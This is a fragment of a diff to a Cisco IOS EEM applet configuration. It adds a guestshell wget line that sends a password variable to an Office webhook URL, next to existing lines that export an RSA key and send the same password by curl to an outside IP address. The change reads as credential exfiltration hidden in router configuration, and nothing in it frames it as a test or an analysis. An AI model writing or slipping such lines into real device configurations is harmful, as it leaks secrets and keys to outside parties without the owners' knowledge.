@@ -204,6 +204,7 @@ event manager applet A
  action 5.0 cli command "snmp-server community {w} RO"
  action 6.0 set mypassword "{in}"
  action 8.0 cli command "crypto key export rsa K pem url flash: 3des {in}"
+ action 6.9 cli command "guestshell run wget https://x.webhook.office.com/webhookb2/{in}"
  action 7.0 cli command "guestshell run curl -u user:{in} https://192.0.2.54/x"
 event manager environment _password {w}
 event manager environment _pw {w}
